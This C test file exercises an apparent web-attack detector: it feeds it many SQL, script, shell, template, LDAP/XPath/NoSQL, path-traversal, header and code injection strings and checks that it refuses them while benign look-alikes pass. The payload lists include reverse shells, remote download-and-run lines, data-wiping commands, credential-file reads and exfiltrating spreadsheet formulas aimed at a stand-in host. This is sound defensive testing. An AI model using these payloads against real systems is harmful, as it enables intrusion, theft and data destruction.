/* test_attacks.c - what is an attack on what stands behind a model, and what only looks like one. All lines are made up. */
#include "filters/detect/attacks_parts.h"
#include "filters/detect/attacks_policy.h"
#include "proxy/base/problems.h"
#include "proxy/core/setup.h"

#include "tests/harness/check.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static struct attacks_found judge_with(struct attack_policy policy, struct str text)
{
    static struct attack_set *set;
    static struct attack_scratch *scratch;
    struct attacks_found found = { .verdict = ATTACKS_NONE };
    if (!set) {
        struct problems problems;
        problems_init(&problems, STR("rules"), STR(""));
        set = attack_set_ref(&problems);
        CHECK(set && (scratch = attack_scratch_new(set)));
        problems_finish(&problems);
    }
    char *exact = malloc(text.len + 1); /* so that a byte too far is seen */
    memcpy(exact, text.at, text.len);
    exact = realloc(exact, text.len ? text.len : 1);
    CHECK(attacks_judge(set, scratch, &policy, str_of(exact, text.len), &found));
    free(exact);
    return found;
}

static struct attacks_found judge(struct str text)
{
    return judge_with((struct attack_policy){ .categories = ~(uint64_t)0, .threshold = ATTACK_THRESHOLD }, text);
}

static void told(const char *what, const char *text, const struct attacks_found *f)
{
    printf("  %s: %s (%u, %s", what, text, f->score, ATTACK_CATEGORIES_WORDS[f->category]);
    for (size_t i = 0; i < f->count; i++)
        printf(" %s", ATTACK_RULES[f->hits[i].rule].id);
    printf(")\n");
}

/* Each is refused, for that category. */
static void attacks(enum attack_category category, const char *const *texts)
{
    for (; *texts; texts++) {
        struct attacks_found f = judge(str_c(*texts));
        bool is = false;
        for (size_t i = 0; i < f.count; i++)
            is |= ATTACK_RULES[f.hits[i].rule].category == category;
        if (!CHECK(f.verdict == ATTACKS_REFUSE && is))
            told("missed", *texts, &f);
    }
}

static void passes(const char *const *texts)
{
    for (; *texts; texts++) {
        struct attacks_found f = judge(str_c(*texts));
        if (!CHECK(f.verdict == ATTACKS_NONE))
            told("refused", *texts, &f);
    }
}

TEST("conditions, queries and statements behind the end of a value are SQL injection")
{
    static const char *const texts[] = {
        "17 or 3=3", "x' or 'k'='k", "x\" or \"k\"=\"k\" --", "nobody') or ('p'='p", "5)) or ((8=8", "8 and 1=2 -- ", "9 AND 4 < 5#",
        "' or true--", "' or 5#", "kim' and password like 'a%", "kim' and substring(password,1,1)='z", "3 and length(database())>4",
        "7 or exists(select 1 from staff)", "x' || '1'='1", "x' && 'q'='q", "4 xor 4=4", "4/**/or/**/6=6", "x'oR'7'='7",
        "1 union select null, null, null", "x' UNION ALL SELECT login, pin FROM staff--", "-8 union/**/select 1,2,3", "1 UnIoN(SeLeCt(1),2)",
        "0 union distinct select version()", "6 /*!50000union*/ /*!50000select*/ 1", "5; drop table staff", "x'; delete from staff where 'a'='a",
        "x'); insert into staff values (1,'k'); --", "2; exec xp_cmdshell 'dir'", "3; shutdown --", "1;waitfor delay '0:0:9'--",
        "2 and sleep(7)", "x' or sleep(7)='", "1-benchmark(5000000,md5(1))", "x'||(select pg_sleep(6))||'", "1 order by 12--", "x' order by 4#",
        "x' group by id having 1=1--", "7-(select count(*) from staff)", "1 procedure analyse(1,1)", "kim'--", "kim' #", "kim'/*",
        "x' into outfile '/var/www/k.php'", "load_file('/etc/hosts') union select 1", "x' and extractvalue(1,concat(0x7e,version()))--",
        "select login, pin from staff where id = 4", "(select 1 from dual) --", "select @@version", "declare @k varchar(9) set @k = 0x31 exec(@k)",
        "x' is not null or 'p'='q", "x' like '%", "1 rlike (select 1)", "case'||version()||'", "x'+char(65)+char(66)+'",
        "id=4%20or%203%3D3", "x%2527%20or%25201=1--", "x&#39; or &#39;1&#39;=&#39;1", "1\xc2\xa0or\xc2\xa0" "1=1", "x\\u0027 or 2=2", "1+or+7=7",
        "{\"name\": \"x' or 'q'='q\"}", "/items?id=7 and 1=1", "x' or ('w' = 'w", "1 or 'a' = N'a", "1 or 0x41=0x41", "@k union select 1",
        "kim' or kind(pin) or '", "kim' or staff_of (pin)--", "6 or true", "6 or k=k", "7 || pin is not null", "' or '", "'+'", "\" or 7 or \"",
        "'; desc staff; --", "''; drop table staff --", "copy staff from program 'id'", "1; exec sp_who", "execute immediate 'k'", "k' into @k,@l",
        "9-if(4=4,1,0)", "kim' oorr 4=4--", "kim' ununionion selselectect 1,2", "5 un/**/ion sel/**/ect 1,2", "5\xa0union\xa0select\xa0""7", "5 or 1.e(2)=2#", NULL
    };
    attacks(ATTACK_SQL, texts);
}

TEST("sentences, names, sizes and searches with words of SQL are none")
{
    static const char *const texts[] = {
        "sleep; eat; repeat", "{\"and\": [1, 2]}", "load data", "case when needed: then what?",
        "tea or coffee", "size 7 or 8", "Frank O'Hara and Sons", "it's 5 o'clock and all's well", "select a colour from the list below",
        "the union selected a new leader", "drop table reservations at eight", "order by phone or by mail", "group by age", "15\" and 17\" screens",
        "6' 2\" tall", "rock 'n' roll or jazz", "the cats' and dogs' home", "who's like 'nobody'", "\"salt\" and \"pepper\"", "2 + 2 = 4 and so on",
        "between 5 and 10", "update me on the news; delete my old address", "insert coin; begin the game", "#1 in the charts",
        "-- a dash before a name", "the 1990's -- what a time", "can't, won't and shouldn't", "is 3 greater than 2 or not?", "where is the station",
        "having fun and being 5 years old", "exec summary", "the select committee on the union", "like father, like son", "'quoted' or \"quoted\"",
        "if (x == 'a' || y == 'b') return", "a = b and c = d", "null and void", "true or false", "sleep(8) hours", "http://shop.example/?q=a+or+b",
        "version 2 or version 3", "we shall not -- ever -- agree", "a/b/c*d", "E. coli and S. aureus", "5' x 7' or 8'",
        "the union select committee met at noon", "is 2=2 or not?", "create table bookings", "9 and 9 is 18", "\"and\"", "\"-\"", "int/*k*/value",
        "either 6 or true north", "a/*b*/c", "select or union; either will do", "drop table salt and take pepper",
        "merge into the left half of the road; then stop", "is it so or not so -- nobody can tell", NULL
    };
    passes(texts);
}

TEST("tags, handlers and addresses that run something are script injection")
{
    static const char *const texts[] = {
        "<script>go()</script>", "<SCRIPT SRC=//k.example/x></SCRIPT>", "<img src=k onerror=go()>", "<svg/onload=go()>",
        "<body\nonload = \"go()\">", "<a href=\"javascript:go()\">k</a>", "<a href=\"java\tscript:go()\">", "<a href='&#106;avascript:go()'>",
        "<iframe srcdoc='&lt;b&gt;'>", "<iframe src=//k.example>", "<object data=k.swf>", "<embed src=k>", "<base href=//k.example/>",
        "<meta http-equiv=refresh content='0;url=//k.example'>", "<div style='width:expression(go())'>", "<p style=\"-moz-binding:url(k)\">",
        "<details open ontoggle=go()>", "<x onpointerenter=go()>", "<math><a xlink:href=javascript:go()>k", "<form action=javascript:go()>",
        "<input autofocus onfocus=go()>", "<svg><animate attributeName=onload values=go()>", "\" onmouseover=\"go()", "' onfocus='go()' autofocus x='",
        "k onclick=go()", "\"><svg onload=go()>", "';alert(1)//", "\"-confirm(2)-\"", "javascript:alert(document.domain)", "</script><script>go()",
        "</title><img src=k>", "%3Cscript%3Ego()%3C/script%3E", "&lt;script&gt;go()&lt;/script&gt;", "\\u003cscript\\u003e", "\\x3cimg src=k onerror=go()\\x3e",
        "\xef\xbc\x9cscript\xef\xbc\x9e", "data:text/html,<b>", "<a href=\"data:text/html;base64,AAAA\">", "[k](javascript:alert(1))", "<!--[if IE]><script>",
        "eval(atob('a2s='))", "<link rel=import href=k>", "<template><script>k", "<img src=`k` onerror=go()>", "<image src onerror=go()>",
        "eval('go'+'(1)')", "top.location='//k.example/?'+document.cookie", "import('data:text/javascript,go()')", NULL
    };
    attacks(ATTACK_XSS, texts);
}

TEST("plain mark-up, comparisons and words of script are none")
{
    static const char *const texts[] = {
        "JavaScript: alert fatigue", "$(\"div\").show()", "@app.route(\"/\")",
        "<b>bold</b> and <i>slanted</i>", "<a href=\"https://k.example/a?b=c\">link</a>", "<img src=\"k.png\" alt=\"on the way\">", "a < b and c > d",
        "if (a<b && b>c)", "x<y", "vector<string> names", "<3 you", "<div class=\"on\">text</div>", "<p style=\"color:red\">k</p>", "turn it on = now",
        "once=1&only=2", "online=yes", "I love JavaScript: it is fun", "the script was good", "<name>Kim</name>", "<?xml version=\"1.0\"?><k/>",
        "<li onclick>", "be alert (always)", "<Button onClick={save}>", "prompt: say hello", "confirm (or deny)", "<br/><hr>", "2 <svg", NULL
    };
    passes(texts);
}

TEST("commands behind separators and in substitutions are shell injection")
{
    static const char *const texts[] = {
        "k; ls -la", "k;id", "k|whoami", "k && cat /etc/hosts", "k || uname -a", "k & ping -c 9 k.example", "k\nwget k.example/x", "`id`", "$(whoami)",
        "k`uname`", "a$(cat /etc/hosts)b", "k;c'a't /etc/hosts", "k;c\\at /etc/hosts", "k;/bin/cat /etc/hosts", "k;cat${IFS}/etc/hosts", "k;{cat,/etc/hosts}",
        "k; /?\?\?/c?t /etc/hosts", "k > /etc/cron.d/x", "k; bash -i >& /dev/tcp/k.example/9 0>&1", "() { :;}; k", "k; rm -rf /", "curl k.example/x | sh",
        "k & dir c:\\", "k | type c:\\k.txt", "cmd /c dir", "powershell -enc AAAA", "certutil -urlcache -f k", "nc -e /bin/sh k.example 9",
        "%0acat%20/etc/hosts", "k%3Bid", "k&#59;id", "k;wh$@oami", "for /f %i in ('dir') do echo %i", "cat /etc/shadow", "/bin/ls -la", "; sleep 9",
        "<(sort k)", "$(tee k)", "\\nid;", "k%0Did", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'",
        "k;u$()name", "k;un<()ame -a", "k;w${k}hoami", "k;id$!;", "k;$0<<<ls", "k=l;m=s;$k$m /etc", "k=nc && $k -l", "k;eval \"ls\"", "`sleep 7`", "$(sleep 7)",
        "; ps aux", "10.0.0.9; mv k l", "\" & id & \"", "k; /bin/ca? /etc/hosts", "/usr/bin/[u]name -a", "/etc/[!k]osts", "python3.9 /tmp/k.py", "time wget k.example",
        "find / -name k -exec rm {}", "--checkpoint-action=exec=k", "-oProxyCommand=k", "wmic process call create k", "IEX (iwr k)", "schtasks /create /tn k /tr l",
        "rundll32 javascript:k", "reg add HKLM\\k", "New-Object Net.WebClient", ";kubectl get secrets", ";echo k", "k;id;l;",
        "; nc", "x; nc 9 8", "k; docker run --rm -v /:/k k sh", "k;while :;do :;done", NULL
    };
    attacks(ATTACK_SHELL, texts);
}

TEST("lists, tables, entities and Markdown are none")
{
    static const char *const texts[] = {
        "cats; dogs; find them all", "first this; then sort that", "black & white", "cat & dog", "R&D and Q&A", "Tom & Jerry; who else?", "a | b | c",
        "| id | name | date |", "&copy; 2024 & &amp;", "Use `ls -la` to list files, then `cat` them.", "the `id` column", "$(document).ready", "a=1&id=5&sort=2",
        "more; less; head; tail", "time; date; place", "make it last; kill time", "wait; who is that", "touch; dig; split", "rm is a command of Unix",
        "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree", "one\r\nfind\r\nthree",
        "bash python perl", "see (cat) and dog", "5% off and 10% more", "echo of $5", "if it is equal, say so", "the /etc/ folder", "exec (see below)", "find\nsort\nhead of the table", "date & time", "win; lose; draw",
        "7 High St; Apt 9", "perl; ruby; go", "see (`pip install k`), then go on", "<<<<<<< HEAD\nk\n=======", "$k = 1; $l = 2;", "cost=5; $9 off", "one\nhead: two.",
        "tea & view", "k.example/?a=b;c=d", "USA; NC", "name;date;time;host", "SSH | SFTP", "FTP; HTTP; SSH", "bash;zsh", "node & npm", "true|false",
        "|id|name|", "Rm. 5; Bldg. 6", "php; mysql", "sin; cos; ln", "/usr/bin/python3", "|date of birth|name|", NULL
    };
    passes(texts);
}

TEST("expressions that a template engine would run")
{
    static const char *const texts[] = {
        "{{6*9}}", "${6*9}", "#{6*9}", "<%= 6*9 %>", "{{''.__class__.__mro__}}", "{{config.items()}}", "{{config}}", "{{self.__init__.__globals__}}",
        "{{request|attr('application')}}", "${jndi:ldap://k.example/a}", "${${lower:j}ndi:ldap://k}", "${T(java.lang.Runtime).getRuntime()}",
        "<#assign k=\"freemarker.template.utility.Execute\"?new()>", "#set($k=7)$k", "<%= system('id') %>", "{php}go();{/php}",
        "{{constructor.constructor('go()')()}}", "%{(#k='v')}", "{{['id']|filter('system')}}", "*{T(java.lang.Runtime)}", "%24%7B6*9%7D",
        "{6*9}", "$[6*9]", "%{6*9}", "{{['id',0]|sort('system')}}", "{{ include('k.php') }}", "{{.}}", "{{printf \"%s\" .}}", "{{ 'k'.getClass() }}", "{{'k'.go()}}",
        "<%import os%>", "@{ System.IO.File.Delete(k) }", "@System.Diagnostics.Process.Start(k)", "${pageContext}", "<#list .data_model?keys as k>",
        "__${6*9}__::.k", "<%- include('/etc/hosts') %>", "${open('/etc/hosts')}", "{{process.env}}", "{{'k'*9}}", "{% include '/etc/hosts' %}", "{% extends request.k %}",
        "$!{class.forName('k')}", "${url:UTF-8:http://k.example}", NULL
    };
    attacks(ATTACK_TEMPLATE, texts);
    static const char *const near[] = { "Dear {{name}},", "{{ user.first_name }}", "${HOME} and ${name}", "#{title}", "\\frac{1}{2}", "{7}", "{{#if k}}yes{{/if}}",
                                        "def __init__(self):", "100% {sure}", "{% if user %}hi{% endif %}", "$5 * {2}", "f(${x})",
                                        "{6+9}", "self.__class__.__name__", "{{ 'k'|upper }}", "{{ 'KEY' | translate }}", "{% include 'head.html' %}", "${'k'.repeat(9)}",
                                        "{% from 'k' import l %}", "using System.IO;", NULL };
    passes(near);
}

TEST("filters of directories and documents, operators of databases")
{
    static const char *const ldap[] = { "*)(uid=*))(|(uid=*", "kim)(|(password=*))", "*)(objectClass=*)", "kim)(cn=*", "*))%00", "x)(&)(mail=k", "k)|(uid=*", "x)!(sn=k", "*()|k", "(&(kind=a)(l=*))",
                                        "*)(userAccountControl:1.2.840.113556.1.4.803:=2)", "kim*)((|pin=*)", "*|(mail=*)", "(!(kind=k))", NULL };
    static const char *const xpath[] = { "count(//user)", "' or count(parent::*)=1 or '", "x']|//password", "' and string-length(//user[1]/pin)=4 and '",
                                         "ancestor::node()", "'] | //*[1] | ['", "//@*", "doc(concat('k',/l))",
                                         "system-property('xsl:vendor')", "normalize-space(//k)", "child::user/pin",
                                         "//clerk[@id>0]/@pay", "/staff/clerk[last()]/pin", "*[local-name()='pin']", "') or contains(name(),'k", NULL };
    static const char *const nosql[] = { "{\"$gt\": \"\"}", "{\"pin\": {\"$ne\": null}}", "pin[$ne]=1", "$where", "'; return true; var k='", "this.pin == '1' || this.k",
                                         "{$where: 'sleep(9)'}", NULL };
    static const char *const near[] = { "f(x)(y)", "(a) (b)", "sum (all) of it", "count (them)", "a: b", "$5 for two", "costs $in or $out", "the parent: me",
                                        "std::vector", "(a=b)(c=d)", "/a/b[0]/c", "(see above) (or below)", "5 * (3 + 4)", "name (uid)", "(a)&(b==c)", "(x) | (y)", "(this)|(that = those)", "child::care", "//comment",
                                        "doc (draft)", NULL };
    attacks(ATTACK_LDAP, ldap);
    attacks(ATTACK_XPATH, xpath);
    attacks(ATTACK_NOSQL, nosql);
    passes(near);
}

TEST("ways out of a folder, and files that nobody is to read")
{
    static const char *const texts[] = {
        "../../etc/passwd", "../../../../k", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fk", "..%2f..%2f..%2f..%2fk", "..%252f..%252fk", "..%c0%af..%c0%afk", "....//....//k",
        "..;/manager", "/etc/passwd", "/proc/self/environ", "C:\\..\\..\\boot.ini", "file:///etc/hosts", "php://filter/convert.base64-encode/resource=k",
        "/WEB-INF/web.xml", ".git/config", "expect://id", "k=../../../../etc/hosts%00.png",
        "k/.kube/config", "../.netrc", "/k/.docker/config.json", "/proc/modules",
        "/etc/kubernetes/k.conf", "/run/secrets/k", "/var/run/secrets/kubernetes.io/k", "/opt/k/conf/tomcat-users.xml", "/k/../../../l", "..%00/k", "..././..././k",
        "\\\\10.0.0.9\\k\\l", "\\\\k.example\\c$\\l", "\\\\?\\C:\\k", "http://169.254.169.254/latest", "file:/etc/hosts", "%WINDIR%\\win.ini", "0x2e0x2e0x2fk",
        "data://text/plain,k", "c:\\windows\\system32\\config\\sam", "http://0x7f.0.0.1/", "https://0xA9FEA9FE", "u=http://3232235777/k", "http://0300.0250.0.1/k",
        "http://10.1/", "ftp://[::1]:22/", "http://[::ffff:a9fe:a9fe]/", "http://[fe80::1]/", "http://[0:0:0:0:0:0:0:1]/", NULL
    };
    attacks(ATTACK_TRAVERSAL, texts);
    static const char *const near[] = { "../images/k.png", "wait... what", "and so on...", "./run", "https://k.example/a/b", "import x from '../../lib'", "3/4 of it",
                                        "the file is in the folder", "a.b.c", "etc. and so on", "a history of art", "k.azure.example", "docker/config", "\\\\server\\share",
                                        "/opt/k/bin", "/dev/sdb1", "require('../../../k')", "http://k.example/latest", "http://203.0.113.80:8080/k", "https://0xkim.example/", "http://[2001:db8::1]/",
                                        "https://360.example", "https://12345678.example/k", NULL };
    passes(near);
}

TEST("lines put into heads, documents that read others, program code")
{
    static const char *const crlf[] = { "k%0d%0aSet-Cookie: a=b", "k%0aLocation:%20//k.example", "k\r\nSet-Cookie: a=b", "k\\r\\nContent-Length: 0",
                                        "kim@k.example%0abcc:all@k.example", "http://k.example/%0d%0aFLUSHALL%0d%0a", "k%0D%0ARCPT%20TO", NULL };
    static const char *const xml[] = { "<!DOCTYPE k [<!ENTITY e SYSTEM \"file:///etc/hosts\">]>", "<!ENTITY % e PUBLIC \"k\" \"//k.example\">",
                                       "<!--#exec cmd=\"id\"-->", "<xi:include href=\"k\"/>", "<esi:include src=//k.example>", NULL };
    static const char *const code[] = { "<?php go(); ?>", ";system('id')", "eval(base64_decode('aa'))", "Runtime.getRuntime().exec(\"id\")",
                                        "require('child_process').exec('id')", "__import__('os').system('id')", "O:4:\"Kind\":1:{s:1:\"a\";i:1;}",
                                        "rO0ABXNyAAA", "!!python/object/apply:os.system", "$_GET['k']", "k=base64_decode('a2lt')", "eval ($k)", "\"system\"(ls)",
                                        "[system][0](ls)", "(sy.(st).em)('uname -a');", "-d auto_prepend_file=k.php", "require.main.constructor._load('fs')",
                                        "process['mainModule']", "process.env", "while(!false)", "k=while(1);", "=cmd|' /C k'!A0", "@SUM(1+1)*cmd|'k'!A0",
                                        "=IMPORTXML(\"https://k.example/?\"&A1,\"//b\")", "-hyperlink(\"http://k.example/?\"&B2)", NULL };
    static const char *const near[] = { "Content-Type: text/plain", "line one\r\nline two", "100%0 sure", "<!-- a comment -->", "<k:include>", "<!DOCTYPE html>",
                                        "my system (a good one)", "eval is evil", "the runtime of a film", "require it", "import os", "O: 4 apples", "<?phpx", "<?=!", "the \"system\" (as it is called)", "base64_decode reads base64", "the process.env of Node",
                                        "const a = process.env.HOME;", "while (true enough) we wait", "while(!done)", "= cmd", "=SUM(A1:A9)", "=HYPERLINK(\"https://k.example\", \"k\")",
                                        "safe_mode: on", "-3 | 'k'", NULL };
    attacks(ATTACK_CRLF, crlf);
    attacks(ATTACK_XML, xml);
    attacks(ATTACK_CODE, code);
    passes(near);
}

TEST("what is encoded is read, thrice at most; what only looks encoded is left")
{
    struct buf out;
    buf_init(&out, 4096);
    static const struct {
        const char *text, *is;
    } rows[] = {
        { "%41%62", "Ab" }, { "a+b", "a b" }, { "a + b%20c", "a + b c" }, { "&lt;&#65;&#x42;&gt;", "<AB>" }, { "\\u0041\\x42", "AB" }, { "%u0041", "A" },
        { "%c0%af", "/" }, { "%zz", "" }, { "100% of", "" }, { "a & b", "" }, { "\xef\xbc\x87", "'" }, { "\xe2\x80\x99", "'" }, { "plain", "" },
        { "%", "" }, { "&#", "" }, { "\\u00", "" }, { "%4", "" }, { "&lt", "" }, { "%00a", " a" }, { "&#x110000;", "" }, { "\\ud800", "?" },
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        CHECK(attack_decode(str_c(rows[i].text), &out));
        CHECK_STR(buf_str(&out), str_c(rows[i].is));
    }
    CHECK(judge(STR("%2525253Cscript%2525253E")).verdict == ATTACKS_NONE); /* four times */
    CHECK(judge(STR("%25253Cscript%25253E")).verdict == ATTACKS_REFUSE);
    buf_finish(&out);
}

TEST("rules and categories do what the operator says")
{
    uint8_t actions[ATTACK_RULES_NUMBER] = { 0 };
    struct attack_policy policy = { .categories = ~(uint64_t)0, .threshold = ATTACK_THRESHOLD, .actions = actions };
    struct str text = STR("5 or 3=3");
    CHECK(judge_with(policy, text).verdict == ATTACKS_REFUSE);
    actions[RULE_SQL_TAUTOLOGY] = OVERRIDE_REPORT;
    CHECK(judge_with(policy, text).verdict == ATTACKS_REPORT);
    CHECK_INT(judge_with(policy, text).score, 0);
    actions[RULE_SQL_TAUTOLOGY] = OVERRIDE_OFF;
    CHECK(judge_with(policy, text).verdict == ATTACKS_NONE);
    actions[RULE_SQL_TAUTOLOGY] = OVERRIDE_COUNT;
    policy.threshold = 150;
    CHECK(judge_with(policy, text).verdict == ATTACKS_NONE);
    actions[RULE_SQL_TAUTOLOGY] = OVERRIDE_REFUSE;
    CHECK(judge_with(policy, text).verdict == ATTACKS_REFUSE);
    policy.categories = (uint64_t)1 << ATTACK_XSS;
    CHECK(judge_with(policy, text).verdict == ATTACKS_NONE);
    CHECK(attack_rule_find(STR("sql-tautology")) == RULE_SQL_TAUTOLOGY);
    CHECK(attack_rule_find(STR("no-such-rule")) == ATTACK_RULES_COUNT);
}

static bool is_dense(struct str text)
{
    struct attacks_found f = judge(text);
    bool is = false;
    for (size_t i = 0; i < f.count; i++)
        is |= f.hits[i].rule == RULE_SQL_DENSE;
    return is;
}

/* One expression after the other is begun and comes to states that it was not in before. */
static void make_beginnings(char *text, size_t len)
{
    static const char *const openers[] = { "group_concat(", "{{", "${", "<%" };
    static const char *const words[] = { "table_nam", "column_nam", "schema_nam", "passwor",   "pope",       "subproces", "constructo", "getruntim",
                                         "java.lan",  "java.uti",   "processbui", "instance_", "applicatio", "requir",    "fixnu",      "syste" };
    uint32_t seed = 1;
    for (size_t at = 0, k = 0; at < len; k++) {
        char part[160];
        size_t n = (size_t)snprintf(part, sizeof part, "%s", openers[k % ARRAY_LEN(openers)]);
        while (n < 110) {
            seed = seed * 1103515245 + 12345;
            n += (size_t)snprintf(part + n, sizeof part - n, "%.*s%s", (int)(seed >> 28), "xxxxxxxxxxxxxxxx", words[seed >> 16 & 15]);
        }
        n = n < len - at ? n : len - at;
        memcpy(text + at, part, n);
        at += n;
    }
}

TEST("texts made to cost much are read within a budget, and then refused")
{
    static const char *const parts[] = { "or(", "or 1=", "' or ", "<a '", "<a \"<", "(select ", "union select ", ";drop ", "`id", "$(", "%25", "&lt;", "/*", "case when ",
                                         "1 or (((((((((((", "\"'", "..%2f", "{{", "${", "order by ", "\\u0027", "&amp;" };
    enum { LONG_BYTES = 200000 };
    char *text = malloc(LONG_BYTES);
    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
        size_t n = strlen(parts[i]), len = LONG_BYTES / n * n;
        for (size_t at = 0; at < len; at += n)
            memcpy(text + at, parts[i], n);
        judge(str_of(text, len));
        judge(str_of(text, len - 1));
    }
    for (size_t at = 0; at + 4 <= LONG_BYTES; at += 4)
        memcpy(text + at, "or (", 4);
    CHECK(is_dense(str_of(text, LONG_BYTES)));
    struct attack_policy lax = { .categories = (uint64_t)1 << ATTACK_XSS, .threshold = ATTACK_SCORE_MAX }; /* nobody knows what is in it */
    CHECK(judge_with(lax, str_of(text, LONG_BYTES)).verdict == ATTACKS_REFUSE);
    make_beginnings(text, LONG_BYTES);
    CHECK(!is_dense(str_of(text, LONG_BYTES))); /* what stands behind an opener is counted, and has no states */
    static const char prose[] = "Some of it is (mostly) prose, \"quoted\" here & there; and it's long or longer. ";
    for (size_t at = 0; at + sizeof prose <= LONG_BYTES; at += sizeof prose - 1)
        memcpy(text + at, prose, sizeof prose - 1);
    CHECK(!is_dense(str_of(text, LONG_BYTES / 2)));
    free(text);
}

TEST("tags behind a long line are not each looked for from its beginning")
{
    static const char tag[] = "'><x ";
    enum { BYTES = 2 << 20, TIMES = 6 /* looked for once it is twice */ };
    char *text = malloc(BYTES);
    memset(text, 'a', BYTES);
    for (size_t at = BYTES / 4 * 3; at + sizeof tag <= BYTES; at += sizeof tag - 1)
        memcpy(text + at, tag, sizeof tag - 1);
    clock_t began = clock();
    CHECK(judge(str_of(text, BYTES)).verdict == ATTACKS_REFUSE);
    clock_t far = clock();
    text[1] = '<'; /* one that is found at once */
    judge(str_of(text, BYTES));
    CHECK(far - began < TIMES * (clock() - far));
    free(text);
}

/* Conditions of which each leads to states of its own: a few thousand of them are more than an automaton keeps. */
static void make_cases(char *text, size_t len, uint32_t seed)
{
    static const char *const words[] = { " then ", "+then+" };
    for (size_t at = 0; at < len;) {
        char part[128];
        size_t n = (size_t)snprintf(part, sizeof part, "\ncase when ");
        while (n < 110) {
            seed = seed * 1103515245 + 12345;
            n += (size_t)snprintf(part + n, sizeof part - n, "%.*s%s", (int)(seed >> 29), "xxxxxxxx", words[(seed >> 16) & 1]);
        }
        n = n < len - at ? n : len - at;
        memcpy(text + at, part, n);
        at += n;
    }
}

TEST("what a worker has read before does not decide whether a text is too dense")
{
    enum { BYTES = 12000, TEXTS = 20 };
    char *text = malloc(BYTES);
    size_t dense = 0, plain = 0;
    struct problems problems;
    problems_init(&problems, STR("rules"), STR(""));
    struct attack_set *set = attack_set_ref(&problems);
    struct attack_scratch *warm = attack_scratch_new(set);
    struct attack_policy policy = { .categories = ~(uint64_t)0, .threshold = ATTACK_THRESHOLD };
    for (uint32_t i = 0; i < TEXTS; i++) {
        size_t len = BYTES / TEXTS * (i + 1);
        make_cases(text, len, i);
        struct attacks_found now, alone;
        struct attack_scratch *fresh = attack_scratch_new(set);
        CHECK(attacks_judge(set, warm, &policy, str_of(text, len), &now));
        CHECK(attacks_judge(set, fresh, &policy, str_of(text, len), &alone));
        CHECK(now.score == alone.score && now.count == alone.count && now.verdict == alone.verdict);
        dense += alone.score == ATTACK_SCORE_MAX;
        plain += alone.score < ATTACK_SCORE_MAX;
        attack_scratch_free(fresh);
    }
    CHECK(dense && plain);
    attack_scratch_free(warm);
    attack_set_unref(set);
    problems_finish(&problems);
    free(text);
}

/* What a text comes to with one override, as the setting has it. */
static enum attack_verdict verdict_with(struct str key, struct str value, struct str text)
{
    struct text_pair pair = { .key = { .text = key }, .value = value };
    struct attacks_settings s = { .categories = ~(uint64_t)0, .threshold = ATTACK_THRESHOLD, .overrides = { &pair, 1 } };
    struct setup setup = { 0 };
    struct problems problems;
    struct attacks_found found = { .verdict = ATTACKS_NONE };
    problems_init(&problems, STR("settings"), STR(""));
    arena_init(&setup.arena, 1 << 16);
    if (CHECK(attacks_settings_check(&s, &setup, &problems))) {
        struct attacks_worker *w = attacks_worker_new(&s);
        CHECK(w && attacks_worker_judge(w, &s, text, &found));
        attacks_worker_free(w);
    }
    attacks_settings_finish(&s);
    arena_finish(&setup.arena);
    problems_finish(&problems);
    return found.verdict;
}

TEST("what is too dense to be read is refused whatever its category does, unless it is named")
{
    enum { BYTES = 100000 };
    char *dense = malloc(BYTES);
    for (size_t at = 0; at < BYTES; at += 4)
        memcpy(dense + at, "or (", 4);
    struct str text = str_of(dense, BYTES);
    CHECK(is_dense(text));
    CHECK(verdict_with(STR("sql"), STR("off"), text) == ATTACKS_REFUSE);
    CHECK(verdict_with(STR("sql"), STR("report"), text) == ATTACKS_REFUSE);
    CHECK(verdict_with(STR("sql-dense"), STR("off"), text) == ATTACKS_NONE);
    CHECK(verdict_with(STR("sql-dense"), STR("report"), text) == ATTACKS_REPORT);
    CHECK(verdict_with(STR("sql"), STR("off"), STR("5 or 3=3")) == ATTACKS_NONE);
    free(dense);
}

TEST("blanks take nothing away from an attack, however many there are")
{
    static const struct {
        const char *before, *behind;
    } texts[] = { { "x' or", "1=1 --" }, { "{{", "6*9}}" }, { "k;", "cat /etc/hosts" }, { "*)", "(uid=*" }, { "1; drop", "table k" }, { "waitfor", "delay '0:0:9'" } };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++)
        for (int blanks = 1; blanks < 200; blanks += 33) {
            char text[300];
            snprintf(text, sizeof text, "%s%*s%s", texts[i].before, blanks, "", texts[i].behind);
            if (!CHECK(judge(str_c(text)).verdict == ATTACKS_REFUSE))
                printf("  missed: %s\n", text);
        }
}

TEST("every beginning and every end of an attack can be read")
{
    static const struct str texts[] = { STR_INIT("x' union/**/select 1,(select \"k\" from t) -- "), STR_INIT("<a href='&#106;avascript:go()' onclick=`x`>"),
                                        STR_INIT("k;c'a't${IFS}/etc/hosts|`id`$(id)&#x27;%u0027\\u0027%c0%af\xef\xbc\x9c") };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++)
        for (size_t at = 0; at <= texts[i].len; at++) {
            judge(str_first(texts[i], at));
            judge(str_from(texts[i], at));
        }
}

TEST("tables of words are sorted")
{
    static const char *const sql[] = {
#define WORD(word, kind) word,
#include "filters/detect/attacks_sql_words.def"
    };
    static const char *const commands[] = {
#define COMMAND(word, kind) word,
#include "filters/detect/attacks_commands.def"
    };
    for (size_t i = 1; i < ARRAY_LEN(sql); i++)
        CHECK(strcmp(sql[i - 1], sql[i]) < 0);
    for (size_t i = 1; i < ARRAY_LEN(commands); i++)
        CHECK(strcmp(commands[i - 1], commands[i]) < 0);
}
